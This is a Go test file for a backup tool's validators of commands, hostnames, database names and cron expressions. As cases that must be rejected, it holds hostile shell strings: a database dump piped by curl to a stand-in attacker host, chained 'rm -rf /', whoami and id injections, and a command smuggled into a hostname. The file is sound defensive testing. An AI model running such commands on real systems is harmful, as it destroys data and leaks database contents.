/*
Copyright The Polybackup Contributors

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package executor

import (
	"context"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
)

var _ = Describe("Command validation", func() {
	It("accepts allow-listed commands", func() {
		Expect(ValidateCommand("pg_dump -h localhost -U postgres -d app -Fc -f /tmp/out.dump", false)).
			To(Succeed())
		Expect(ValidateCommand("redis-cli -h localhost BGSAVE", false)).To(Succeed())
		Expect(ValidateCommand("tar -czf /tmp/base.tar.gz -C /tmp/base .", false)).To(Succeed())
	})

	It("rejects command heads outside the allow-list", func() {
		err := ValidateCommand("curl http://evil.example.com", false)
		Expect(err).To(HaveOccurred())
		Expect(err.Error()).To(ContainSubstring("not in the allowed command set"))
	})

	It("rejects empty commands", func() {
		Expect(ValidateCommand("   ", false)).NotTo(Succeed())
	})

	It("rejects chaining metacharacters", func() {
		for _, command := range []string{
			"pg_dump -h x; rm -rf /",
			"ls & whoami",
			"echo hello && echo world",
			"echo $(whoami)",
			"echo `id`",
			"ls\nrm -rf /",
		} {
			err := ValidateCommand(command, false)
			Expect(err).To(HaveOccurred(), "command %q should be rejected", command)
			Expect(err.Error()).To(ContainSubstring("dangerous pattern"))
		}
	})

	It("skips environment assignments when locating the command head", func() {
		Expect(ValidateCommand("PGPASSWORD=secret pg_dump -h localhost -d app", false)).
			To(Succeed())
	})

	It("does not let an environment assignment hide a forbidden head", func() {
		Expect(ValidateCommand("PGPASSWORD=secret curl http://evil.example.com", false)).
			NotTo(Succeed())
	})

	It("allows a single pipe into a compression filter", func() {
		Expect(ValidateCommand("mysqldump -h localhost app | gzip > /tmp/out.sql.gz", false)).
			To(Succeed())
		Expect(ValidateCommand("cat /tmp/backup.dat | zstd", false)).To(Succeed())
	})

	It("rejects pipes into anything else", func() {
		err := ValidateCommand("mysqldump app | curl -X POST http://evil.example.com", false)
		Expect(err).To(HaveOccurred())
		Expect(err.Error()).To(ContainSubstring("not a compression filter"))
	})

	It("rejects more than one pipe", func() {
		err := ValidateCommand("cat /tmp/a | gzip | gzip", false)
		Expect(err).To(HaveOccurred())
		Expect(err.Error()).To(ContainSubstring("at most one pipe"))
	})

	It("rejects unbalanced quoting", func() {
		Expect(ValidateCommand(`pg_dump -d "app`, false)).NotTo(Succeed())
	})

	It("accepts shell entry points only where the transport wraps commands", func() {
		Expect(ValidateCommand("sh -c 'redis-server --daemonize yes'", true)).To(Succeed())
		Expect(ValidateCommand("sh -c 'redis-server --daemonize yes'", false)).NotTo(Succeed())
		Expect(ValidateCommand("bash -c 'echo hello'", true)).To(Succeed())
	})
})

var _ = Describe("Field validation", func() {
	It("accepts well-formed hostnames and IP addresses", func() {
		Expect(ValidateHostname("db-01.internal.example.com")).To(Succeed())
		Expect(ValidateHostname("localhost")).To(Succeed())
		Expect(ValidateHostname("192.0.2.17")).To(Succeed())
	})

	It("rejects malformed hostnames", func() {
		Expect(ValidateHostname("")).NotTo(Succeed())
		Expect(ValidateHostname("host name")).NotTo(Succeed())
		Expect(ValidateHostname("-leading.dash")).NotTo(Succeed())
		Expect(ValidateHostname("host;rm")).NotTo(Succeed())
	})

	It("bounds port numbers", func() {
		Expect(ValidatePort(5432)).To(Succeed())
		Expect(ValidatePort(0)).NotTo(Succeed())
		Expect(ValidatePort(65536)).NotTo(Succeed())
	})

	It("accepts ordinary database names", func() {
		Expect(ValidateDatabaseName("app_production")).To(Succeed())
		Expect(ValidateDatabaseName("_staging-2024")).To(Succeed())
	})

	It("rejects database names spelling SQL keywords", func() {
		for _, name := range []string{"drop", "DELETE", "Select", "exec"} {
			err := ValidateDatabaseName(name)
			Expect(err).To(HaveOccurred(), "name %q should be rejected", name)
			Expect(err.Error()).To(ContainSubstring("reserved SQL keyword"))
		}
	})

	It("rejects database names that are malformed or too long", func() {
		Expect(ValidateDatabaseName("")).NotTo(Succeed())
		Expect(ValidateDatabaseName("1starts-with-digit")).NotTo(Succeed())
		Expect(ValidateDatabaseName("has space")).NotTo(Succeed())

		long := make([]byte, 64)
		for i := range long {
			long[i] = 'a'
		}
		Expect(ValidateDatabaseName(string(long))).NotTo(Succeed())
	})

	It("validates container names", func() {
		Expect(ValidateContainerName("postgres-main")).To(Succeed())
		Expect(ValidateContainerName("db.replica_1")).To(Succeed())
		Expect(ValidateContainerName("-bad")).NotTo(Succeed())
		Expect(ValidateContainerName("")).NotTo(Succeed())
	})

	It("validates namespaces", func() {
		Expect(ValidateNamespace("databases")).To(Succeed())
		Expect(ValidateNamespace("team-a")).To(Succeed())
		Expect(ValidateNamespace("Upper")).NotTo(Succeed())
		Expect(ValidateNamespace("trailing-")).NotTo(Succeed())
	})

	It("validates cron expressions", func() {
		Expect(ValidateCronExpression("*/5 * * * *")).To(Succeed())
		Expect(ValidateCronExpression("0 0 3 * * 1-5")).To(Succeed())
		Expect(ValidateCronExpression("* * *")).NotTo(Succeed())
		Expect(ValidateCronExpression("@daily")).NotTo(Succeed())
		Expect(ValidateCronExpression("0 3 * * MON")).NotTo(Succeed())
	})
})

var _ = Describe("Validation gate", func() {
	It("fails a dangerous command without touching the remote host", func() {
		// The host below is unroutable; a transport attempt would surface
		// a dial error instead of the validation message.
		exec := NewShell("198.51.100.7", 22, &Credentials{
			Username: "postgres",
			Password: "unused",
		})

		result := exec.Execute(context.Background(), "pg_dump -h x; rm -rf /", time.Second)
		Expect(result.Success).To(BeFalse())
		Expect(result.Stderr).To(ContainSubstring("validation failed"))
		Expect(result.Stderr).To(ContainSubstring("dangerous pattern"))
	})
})
